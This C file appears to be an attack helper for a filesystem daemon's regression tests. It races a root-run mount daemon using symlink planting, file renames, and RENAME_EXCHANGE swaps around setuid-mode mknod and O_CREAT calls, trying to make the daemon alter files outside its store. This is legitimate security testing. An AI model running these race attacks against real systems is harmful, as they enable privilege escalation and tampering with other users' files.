/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The attacker of the reld-attack-*.sh tests: an unprivileged user who can write both the
 * store directly and the mount (served by a root stillfs with allow_other), racing the
 * daemon's steps to make it change a file outside the store. Self-contained on purpose.
 *
 *   attack create-symlink MNTDIR STOREDIR TARGET TRIES
 *       make the kernel remember NAME as missing (a lookup through the mount), plant a
 *       symlink to TARGET at NAME in the store, then open NAME with O_CREAT through the mount
 *   attack create-existing MNTDIR STOREDIR VICTIM TRIES
 *       the same, but what appears at NAME is the existing file STOREDIR/VICTIM (renamed)
 *   attack mknod-symlink MNTDIR STOREDIR TARGET TRIES
 *   attack mknod-hardlink MNTDIR STOREDIR TARGET TRIES
 *       mknod NAME (a regular file, mode 04777) through the mount while a second thread
 *       replaces NAME in the store by a symlink to, or a hard link of, TARGET
 *   attack mknod-once MNTDIR STOREDIR NAME 1
 *       mknod MNTDIR/NAME, a regular file of mode 04777 (umask 0): no attack, the control
 *
 * Prints what it saw ("tries=N opened=N won=N"); the test judges by TARGET itself. */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char mnt_name[PATH_MAX], store_name[PATH_MAX], store_tmp[PATH_MAX];
static const char *target;
static atomic_int done;
static int hard;

static void create_attack(int existing, const char *storedir, int tries)
{
	char victim[PATH_MAX];
	struct stat st;
	int opened = 0, won = 0, refused = 0;

	snprintf(victim, sizeof victim, "%s/%s", storedir, target);
	for (int i = 0; i < tries; i++) {
		unlink(store_name);
		if (stat(mnt_name, &st) == 0 || errno != ENOENT)
			continue;
		if (existing ? rename(victim, store_name) : symlink(target, store_name))
			continue;
		int fd = open(mnt_name, O_RDWR | O_CREAT, 0644);
		if (fd >= 0) {
			opened++;
			if (fstat(fd, &st) == 0 && st.st_size > 0)
				won++;       /* not a new empty file: someone else's contents */
			close(fd);
		} else {
			refused += errno != EACCES;   /* the create reached the daemon's checks */
		}
		if (existing)
			rename(store_name, victim);
	}
	printf("tries=%d opened=%d won=%d refused_in_create=%d\n", tries, opened, won, refused);
}

/* Swap NAME for a symlink to / hard link of TARGET the instant it appears: an exchange of
 * two names succeeds only once both exist, so one system call both waits and swaps. */
static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&done)) {
		unlink(store_tmp);
		if ((hard ? link(target, store_tmp) : symlink(target, store_tmp)) < 0)
			continue;
		while (!atomic_load(&done) &&
		       renameat2(AT_FDCWD, store_tmp, AT_FDCWD, store_name, RENAME_EXCHANGE) < 0)
			;
	}
	return NULL;
}

static void mknod_attack(int tries)
{
	pthread_t t;
	int made = 0;

	if (pthread_create(&t, NULL, swapper, NULL) != 0) {
		perror("pthread_create");
		exit(2);
	}
	for (int i = 0; i < tries; i++) {
		unlink(store_name);
		made += mknod(mnt_name, S_IFREG | 04777, 0) == 0;
	}
	atomic_store(&done, 1);
	pthread_join(t, NULL);
	unlink(store_name);
	unlink(store_tmp);
	printf("tries=%d made=%d\n", tries, made);
}

int main(int argc, char **argv)
{
	if (argc != 6) {
		fprintf(stderr, "usage: attack MODE MNTDIR STOREDIR TARGET TRIES\n");
		return 2;
	}
	const char *mode = argv[1];
	int tries = atoi(argv[5]);
	target = argv[4];
	snprintf(mnt_name, sizeof mnt_name, "%s/planted", argv[2]);
	snprintf(store_name, sizeof store_name, "%s/planted", argv[3]);
	snprintf(store_tmp, sizeof store_tmp, "%s/planted.tmp", argv[3]);
	if (!strcmp(mode, "create-symlink") || !strcmp(mode, "create-existing")) {
		create_attack(!strcmp(mode, "create-existing"), argv[3], tries);
	} else if (!strcmp(mode, "mknod-symlink") || !strcmp(mode, "mknod-hardlink")) {
		hard = !strcmp(mode, "mknod-hardlink");
		mknod_attack(tries);
	} else if (!strcmp(mode, "mknod-once")) {
		snprintf(mnt_name, sizeof mnt_name, "%s/%s", argv[2], target);
		umask(0);
		if (mknod(mnt_name, S_IFREG | 04777, 0) < 0) {
			perror(mnt_name);
			return 1;
		}
	} else {
		fprintf(stderr, "attack: unknown mode %s\n", mode);
		return 2;
	}
	return 0;
}
